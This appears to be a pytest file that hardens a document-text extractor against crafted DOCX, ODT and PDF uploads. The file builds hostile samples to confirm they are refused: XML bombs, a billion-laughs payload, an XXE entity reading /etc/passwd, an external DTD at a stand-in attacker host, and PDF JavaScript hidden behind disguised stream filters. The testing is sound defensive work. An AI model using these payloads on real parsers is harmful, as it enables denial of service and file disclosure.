"""Crafted documents against the text extraction of the search by document (and the checks project attachments
share): XML built to cost minutes and gigabytes, entity declarations, files built to outrun the bounded child
process, and PDFs hiding a script in object streams pypdf cannot or does not read. Every file is built here, real
bytes the parsers read (no parser is mocked)."""

from __future__ import annotations

import base64
import io
import os
import zipfile
import zlib
from pathlib import Path

import pytest

from tests.test_textfiles import INTRO, make_docx, make_odt, make_pdf
from vivier import textfiles
from vivier.textfiles import (ACTIVE_PDF, MAX_XML_DEPTH, MAX_XML_ELEMENTS, MAX_XML_PART_BYTES, PROTECTED_PDF,
                              TOO_COMPLEX, UNCHECKABLE_PDF, XML_DECLARATIONS, XML_TOO_DEEP, XML_TOO_LARGE,
                              XML_TOO_MANY, ReaderBusy, UnreadableDocument, UnsafeDocument, check_pdf_passive,
                              detect_kind, extract_text, read_text, unsafe_reason)

W_NS = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
ODF_NS = (b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2"')
MB = 1024 * 1024


def refusal(filename: str, data: bytes, reader=extract_text) -> UnreadableDocument:
    with pytest.raises(UnreadableDocument) as caught:
        reader(filename, data)
    return caught.value


# --- DOCX and ODT whose text part is crafted ------------------------------------------------------------------

def with_part(document: bytes, part_name: str, chunks) -> bytes:
    """A real document (written by python-docx or odfpy) whose part `part_name` is replaced by the bytes `chunks`
    yields, streamed into the archive: tens of MB of XML cost little memory to build."""
    source = zipfile.ZipFile(io.BytesIO(document))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            if info.filename == part_name:
                info = zipfile.ZipInfo(part_name)
                info.compress_type = zipfile.ZIP_DEFLATED
                with archive.open(info, "w", force_zip64=True) as part:
                    for chunk in chunks:
                        part.write(chunk)
            else:
                archive.writestr(info, source.read(info))
    return buffer.getvalue()


def docx_body(*body: bytes, prolog: bytes = b"") -> list[bytes]:
    return [prolog, b"<w:document " + W_NS + b"><w:body>", *body, b"</w:body></w:document>"]


def odt_text(*body: bytes, prolog: bytes = b"") -> list[bytes]:
    return [prolog, b"<office:document-content " + ODF_NS + b"><office:body><office:text>", *body,
            b"</office:text></office:body></office:document-content>"]


def crafted(kind: str, *body: bytes, prolog: bytes = b"") -> tuple[str, bytes]:
    """(file name, bytes) of a DOCX or ODT whose text part holds `body`."""
    if kind == "docx":
        return "cahier.docx", with_part(make_docx(["Cahier des charges", INTRO]), "word/document.xml",
                                        docx_body(*body, prolog=prolog))
    return "cahier.odt", with_part(make_odt(["Cahier des charges", INTRO]), "content.xml",
                                   odt_text(*body, prolog=prolog))


def repeated(unit: bytes, total_bytes: int):
    block = unit * (MB // len(unit))
    for _ in range(total_bytes // len(block)):
        yield block


PARAGRAPH = {"docx": b"<w:p><w:r><w:t>%s</w:t></w:r></w:p>", "odt": b"<text:p>%s</text:p>"}
EMPTY_ELEMENT = {"docx": b"<w:p/>", "odt": b"<text:s/>"}
CONTAINER = {"docx": (b"<w:sdt><w:sdtContent>", b"</w:sdtContent></w:sdt>"),
             "odt": (b"<text:section>", b"</text:section>")}


@pytest.mark.parametrize("kind", ["docx", "odt"])
def test_a_text_part_of_60_mb_under_the_zip_guard_is_refused_before_it_is_parsed(kind):
    """The review's file: ~60 MB of markup without text (67 s and 2.9 GB of RAM for the ODT with odfpy, 68 s and
    1 GB for the DOCX with python-docx) in an upload of a few hundred kB."""
    paragraph = {"docx": b'<w:p><w:pPr><w:jc w:val="left"/></w:pPr></w:p>', "odt": b"<text:p/>"}[kind]
    filename, data = crafted(kind, *repeated(paragraph, 60 * MB))
    sizes = [info.file_size for info in zipfile.ZipFile(io.BytesIO(data)).infolist()]
    assert len(data) < 1 * MB and sum(sizes) < textfiles.MAX_UNCOMPRESSED_BYTES  # small, and past the zip guard
    assert max(sizes) > MAX_XML_PART_BYTES
    error = refusal(filename, data)
    assert error.message == XML_TOO_LARGE and "16 Mo" in error.message


@pytest.mark.parametrize("kind", ["docx", "odt"])
def test_a_text_part_of_a_million_empty_elements_is_refused(kind):
    element = EMPTY_ELEMENT[kind]
    count = MAX_XML_ELEMENTS + 1000
    filename, data = crafted(kind, element * count)
    assert len(element) * count < MAX_XML_PART_BYTES  # under the size limit: the count refuses it
    assert refusal(filename, data).message == XML_TOO_MANY


@pytest.mark.parametrize("kind", ["docx", "odt"])
def test_deeply_nested_elements_are_refused(kind):
    opening, closing = CONTAINER[kind]
    filename, data = crafted(kind, opening * 100_000, PARAGRAPH[kind] % b"Cantine", closing * 100_000)
    error = refusal(filename, data)
    assert error.message == XML_TOO_DEEP and f"{MAX_XML_DEPTH} niveaux" in error.message


@pytest.mark.parametrize("kind", ["docx", "odt"])
def test_nesting_within_the_limit_is_read(kind):
    opening, closing = CONTAINER[kind]
    levels = (MAX_XML_DEPTH - 10) // 2
    filename, data = crafted(kind, opening * levels, PARAGRAPH[kind] % b"Cantine scolaire", closing * levels)
    assert extract_text(filename, data) == "Cantine scolaire"


BILLION_LAUGHS = (b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + b"".join(b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
                             for n in range(1, 10))
                  + b"]>\n")
EXTERNAL_ENTITY = b'<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n'
EXTERNAL_DTD = b'<?xml version="1.0"?>\n<!DOCTYPE x SYSTEM "http://attaquant.example/document.dtd">\n'


@pytest.mark.parametrize("kind", ["docx", "odt"])
@pytest.mark.parametrize("prolog, entity", [(BILLION_LAUGHS, b"&lol9;"), (EXTERNAL_ENTITY, b"&secret;")],
                         ids=["billion-laughs", "external-entity"])
def test_entity_declarations_are_refused_as_unsafe(kind, prolog, entity):
    filename, data = crafted(kind, PARAGRAPH[kind] % entity, prolog=prolog)
    error = refusal(filename, data)
    assert isinstance(error, UnsafeDocument) and error.message == XML_DECLARATIONS
    # Project attachments refuse it too, for the same reason (detect_kind, in the calling process)...
    assert unsafe_reason(filename, data) == XML_DECLARATIONS
    # ...and the streaming parser would, had the archive's scan let it through.
    reader = {"docx": textfiles._docx_paragraphs, "odt": textfiles._odt_paragraphs}[kind]
    with pytest.raises(UnsafeDocument, match="déclarations XML"):
        reader(data, 1000)


@pytest.mark.parametrize("kind", ["docx", "odt"])
def test_a_document_type_declaration_is_refused_by_the_parser(kind):
    """No entity declared (the archive's scan sees nothing), an external DTD named: the parser refuses it."""
    filename, data = crafted(kind, PARAGRAPH[kind] % b"Cantine", prolog=EXTERNAL_DTD)
    assert detect_kind(filename, data) == kind
    error = refusal(filename, data, reader=read_text)
    assert isinstance(error, UnsafeDocument) and error.message == XML_DECLARATIONS


def test_entities_declared_in_another_part_or_in_utf_16_are_refused():
    document = make_docx(["Cahier des charges", INTRO])
    styles = with_part(document, "word/styles.xml", [EXTERNAL_ENTITY, b"<w:styles " + W_NS + b"/>"])
    assert unsafe_reason("cahier.docx", styles) == XML_DECLARATIONS
    utf16 = ("\ufeff" + EXTERNAL_ENTITY.decode() + "<w:document/>").encode("utf-16-le")
    assert unsafe_reason("cahier.docx", with_part(document, "word/document.xml", [utf16])) == XML_DECLARATIONS


def test_reading_a_long_document_stops_at_the_character_cap():
    """Text enough for the cap, then a part the element count would refuse: reading stops before reaching it."""
    filename, data = crafted("docx", *[PARAGRAPH["docx"] % INTRO.encode()] * 500, b"<w:p/>" * (MAX_XML_ELEMENTS + 1))
    text = extract_text(filename, data, max_chars=5_000)
    assert text.startswith(INTRO) and len(text) <= 5_000


# --- The bounded child process --------------------------------------------------------------------------------

def pages_pdf(content: bytes, pages: int) -> bytes:
    """A PDF whose `pages` pages all draw the same content stream, with a font to draw text."""
    packed = zlib.compress(content, 9)
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>",
               2: b"<< /Type /Pages /Kids [%s] /Count %d >>" % (
                   b" ".join(b"%d 0 R" % (10 + n) for n in range(pages)), pages),
               3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
               4: b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed)}
    for n in range(pages):
        objects[10 + n] = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
                           b"/Resources << /Font << /F1 3 0 R >> >> /Contents 4 0 R >>")
    out = bytearray(b"%PDF-1.4\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    xref, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n" % size
    for number in range(size):
        out += b"%010d 00000 n \n" % offsets[number] if number in offsets else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out)


def extraction_children() -> list[int]:
    """Process ids of this process's children reading a document (their command line names vivier.textfiles)."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            parent = int((entry / "stat").read_text().rsplit(")", 1)[1].split()[1])
            command = (entry / "cmdline").read_bytes()
        except (OSError, IndexError, ValueError):
            continue
        if parent == os.getpid() and b"vivier.textfiles" in command:
            found.append(int(entry.name))
    return found


@pytest.mark.skipif(not Path("/proc/self/stat").exists(), reason="reads /proc")
def test_a_document_slower_than_the_time_budget_is_refused_and_its_process_killed(monkeypatch):
    """18 kB of PDF: 100 pages drawing one stream of 200,000 empty text operators, about 2 s of pypdf each, so
    minutes in all, far past EXTRACTION_TIMEOUT_S (lowered here to keep the test short)."""
    data = pages_pdf(b"BT /F1 12 Tf " + b"() Tj " * 200_000 + b"ET", pages=100)
    assert len(data) < 20_000
    monkeypatch.setattr(textfiles, "EXTRACTION_TIMEOUT_S", 2.0)
    error = refusal("lent.pdf", data)
    assert error.message == TOO_COMPLEX and "trop complexe pour être lu" in error.message
    assert extraction_children() == []  # killed and reaped, not left running


def test_a_document_needing_more_memory_than_the_budget_is_refused(monkeypatch):
    """One page of 900,000 text operators: pypdf needs ~185 MB of address space to read it. Under a budget
    lowered to 100 MB (enough for a normal PDF, as checked first) the child runs out of memory, not the tests."""
    monkeypatch.setattr(textfiles, "EXTRACTION_MEMORY_BYTES", 100 * MB)
    monkeypatch.setattr(textfiles, "EXTRACTION_TIMEOUT_S", 60.0)
    assert extract_text("normal.pdf", make_pdf([[INTRO]])) == INTRO
    data = pages_pdf(b"BT /F1 12 Tf " + b"(ab) Tj " * 450_000 + b"ET", pages=1)
    assert refusal("gourmand.pdf", data).message == TOO_COMPLEX


def test_the_child_answers_what_it_read_and_why_it_refused():
    assert extract_text("besoin.odt", make_odt(["Titre", INTRO])) == f"Titre\n\n{INTRO}"
    error = refusal("abime.pdf", make_pdf([[INTRO]])[:40])
    assert type(error) is UnreadableDocument and "endommagé" in error.message
    assert isinstance(refusal("cahier.pdf", object_stream_pdf({4: SCRIPT}, b"/Fl")), UnsafeDocument)
    assert refusal("scan.pdf", make_pdf([["1"], ["2"]])).message == textfiles.SCANNED
    assert type(refusal("vide.txt", b" \n ")) is UnreadableDocument


def test_a_second_document_waits_for_the_one_being_read_then_is_asked_to_retry(monkeypatch):
    monkeypatch.setattr(textfiles, "EXTRACTION_WAIT_S", 0.1)
    assert textfiles._EXTRACTION_SLOTS.acquire(blocking=False)  # a document being read in another thread
    try:
        error = refusal("besoin.txt", b"Cantine scolaire")
    finally:
        textfiles._EXTRACTION_SLOTS.release()
    assert isinstance(error, ReaderBusy) and "réessayez" in error.message
    assert extract_text("besoin.txt", b"Cantine scolaire") == "Cantine scolaire"


# --- PDF: scripts in object streams ---------------------------------------------------------------------------

PAGES = {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
         2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"}
SCRIPT = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
GO_TO = b"<< /Type /Action /S /GoTo /D [3 0 R /Fit] >>"


def object_stream_pdf(packed: dict[int, bytes], filters: bytes = b"/FlateDecode", encode=zlib.compress,
                      extra: bytes = b"", first_offset: int | None = None) -> bytes:
    """A PDF 1.5 whose catalog and pages are plain objects and whose `packed` objects sit in one object stream
    (/Type /ObjStm) written with `filters` (as it appears in the stream's dictionary) and `encode`, reached through
    a cross-reference stream."""
    header, body = [], b""
    for number in sorted(packed):
        header.append(b"%d %d" % (number, len(body)))
        body += packed[number] + b"\n"
    head = b" ".join(header) + b"\n"
    encoded = encode(head + body)
    stream_number = max(list(PAGES) + list(packed)) + 1
    xref_number = stream_number + 1
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(PAGES):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, PAGES[number])
    offsets[stream_number] = len(out)
    out += (b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter %s /Length %d %s>>\nstream\n%s\nendstream\nendobj\n"
            % (stream_number, len(packed), len(head) if first_offset is None else first_offset, filters,
               len(encoded), extra, encoded))
    offsets[xref_number] = len(out)
    index = {number: position for position, number in enumerate(sorted(packed))}
    rows = b""
    for number in range(xref_number + 1):
        if number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00"
        elif number in packed:
            rows += b"\x02" + stream_number.to_bytes(4, "big") + bytes([index[number]])
        else:
            rows += b"\x00" * 5 + b"\xff"
    table = zlib.compress(rows)
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 1] /Root 1 0 R /Filter /FlateDecode /Length %d >>\n"
            b"stream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
            % (xref_number, xref_number + 1, len(table), table, offsets[xref_number]))
    return bytes(out)


def png_up_predicted(data: bytes, columns: int = 5) -> bytes:
    """zlib of `data` with the PNG predictor 'None' on each row of `columns` bytes: a tag byte before each row,
    which splits the names a plain inflate would show."""
    rows = [data[i:i + columns].ljust(columns, b" ") for i in range(0, len(data), columns)]
    return zlib.compress(b"".join(b"\x00" + row for row in rows))


def hex_then_flate(data: bytes) -> bytes:
    return base64.b16encode(zlib.compress(data)) + b">"


def refused_pdf(data: bytes) -> str:
    """The message of the refusal, which project attachments (detect_kind) and the search share."""
    with pytest.raises(UnsafeDocument) as caught:
        check_pdf_passive(data)
    assert unsafe_reason("cahier.pdf", data) == caught.value.message
    assert refusal("cahier.pdf", data).message == caught.value.message
    return caught.value.message


@pytest.mark.parametrize("filters", [b"/Fl", b"[/Fl]", b"[ /Fl ]", b"/F#6c", b"[/FlateDecode]"])
def test_a_script_in_an_object_stream_is_found_whatever_the_flate_filter_is_called(filters):
    """pypdf 7 refuses the abbreviated /Fl: the objects it holds were left unchecked, and the file accepted."""
    assert refused_pdf(object_stream_pdf({4: SCRIPT}, filters)) == ACTIVE_PDF


def test_a_script_in_an_object_stream_is_found_under_chained_filters():
    data = object_stream_pdf({4: SCRIPT}, b"[/AHx /Fl]", encode=hex_then_flate)
    assert refused_pdf(data) == ACTIVE_PDF
    data = object_stream_pdf({4: SCRIPT}, b"[/A85]", encode=lambda raw: base64.a85encode(raw) + b"~>")
    assert refused_pdf(data) == ACTIVE_PDF


def test_a_script_in_an_object_stream_pypdf_cannot_parse_is_found():
    """A /First pointing past the objects: pypdf reads null instead of the action, the inflated bytes still name
    it."""
    data = object_stream_pdf({4: SCRIPT}, b"[/FlateDecode]", first_offset=10_000)
    assert refused_pdf(data) == ACTIVE_PDF


@pytest.mark.parametrize("filters, encode, extra", [
    (b"/Fl", png_up_predicted, b"/DecodeParms << /Predictor 12 /Columns 5 >> "),  # neither here nor pypdf
    (b"/Foo", zlib.compress, b""),  # a filter nobody knows
    (b"/FlateDecode", lambda raw: bytes(range(256)) * 4, b""),  # not zlib data: nothing inflates it
], ids=["predictor-and-fl", "unknown-filter", "garbage"])
def test_an_object_stream_that_cannot_be_decoded_is_refused(filters, encode, extra):
    assert refused_pdf(object_stream_pdf({4: SCRIPT}, filters, encode=encode, extra=extra)) == UNCHECKABLE_PDF


def test_a_harmless_object_stream_pypdf_cannot_read_is_refused_rather_than_accepted():
    """No script anywhere, but pypdf cannot read the /Fl stream: what cannot be read is not accepted."""
    assert refused_pdf(object_stream_pdf({4: GO_TO}, b"/Fl")) == UNCHECKABLE_PDF


def test_a_predicted_object_stream_pypdf_reads_is_checked_through_pypdf():
    harmless = object_stream_pdf({4: GO_TO}, b"/FlateDecode", encode=png_up_predicted,
                                 extra=b"/DecodeParms << /Predictor 12 /Columns 5 >> ")
    assert detect_kind("cahier.pdf", harmless) == "pdf"
    scripted = object_stream_pdf({4: SCRIPT}, b"/FlateDecode", encode=png_up_predicted,
                                 extra=b"/DecodeParms << /Predictor 12 /Columns 5 >> ")
    assert refused_pdf(scripted) == ACTIVE_PDF


def without_cross_references(data: bytes) -> bytes:
    """The file cut before its cross-reference stream: pypdf cannot open it, readers rebuild the table."""
    return data[:data.rindex(b"endobj", 0, data.rindex(b"/Type /XRef")) + len(b"endobj\n")]


def test_a_pdf_pypdf_cannot_open_is_judged_on_all_its_dictionaries():
    """Short names (/JS) are looked for outside stream data, where binary bytes cannot spell them by chance."""
    script = (b"%PDF-1.4\n1 0 obj << /Type /Catalog /AA << /O 2 0 R >> >> endobj\n"
              b"2 0 obj << /JS (app.alert\\(1\\)) >> endobj\n%%EOF\n")
    assert refused_pdf(script) == ACTIVE_PDF
    assert refused_pdf(script.replace(b"/JS", b"/J#53")) == ACTIVE_PDF  # the same name, escaped
    binary = b"%PDF-1.4\n1 0 obj << /Length 12 >>\nstream\n\x93/JS [\xff/XFA\nendstream\nendobj\n%%EOF\n"
    assert detect_kind("scan.pdf", binary) == "pdf"  # passive as far as it can be read...
    assert "endommagé" in refusal("scan.pdf", binary).message  # ...and unreadable all the same


def test_an_object_stream_nobody_decodes_in_a_pdf_pypdf_cannot_open_is_refused():
    data = without_cross_references(object_stream_pdf({4: SCRIPT}, b"/Foo"))
    assert refused_pdf(data) == UNCHECKABLE_PDF
    data = without_cross_references(object_stream_pdf({4: SCRIPT}, b"/Fl"))
    assert refused_pdf(data) == ACTIVE_PDF
    assert detect_kind("cahier.pdf", without_cross_references(object_stream_pdf({4: GO_TO}, b"/Fl"))) == "pdf"


def test_an_object_stream_behind_an_unusual_header_is_checked_all_the_same():
    """A comment inside the object's header ("5 0 %...\\nobj"): its dictionary is still found."""
    def commented(data: bytes) -> bytes:
        return data.replace(b"5 0 obj\n<< /Type /ObjStm", b"5 0 %x\nobj\n<< /Type /ObjStm")

    assert refused_pdf(commented(object_stream_pdf({4: SCRIPT}, b"/Fl"))) == ACTIVE_PDF
    assert refused_pdf(commented(object_stream_pdf({4: GO_TO}, b"/Foo"))) == UNCHECKABLE_PDF


def test_a_password_protected_pdf_cannot_be_checked_so_is_refused():
    from tests.test_textfiles import encrypted

    assert refused_pdf(encrypted(make_pdf([[INTRO]]), "secret")) == PROTECTED_PDF


def test_normal_pdfs_are_still_accepted():
    assert detect_kind("cahier.pdf", object_stream_pdf({4: GO_TO})) == "pdf"  # an object stream, no script
    assert extract_text("cahier.pdf", make_pdf([[INTRO], ["Article 2 - Paiement par carte bancaire."]])) == (
        f"{INTRO}\n\nArticle 2 - Paiement par carte bancaire.")
    from tests.test_textfiles import encrypted

    assert extract_text("restreint.pdf", encrypted(make_pdf([[INTRO]]), user_password="")) == INTRO
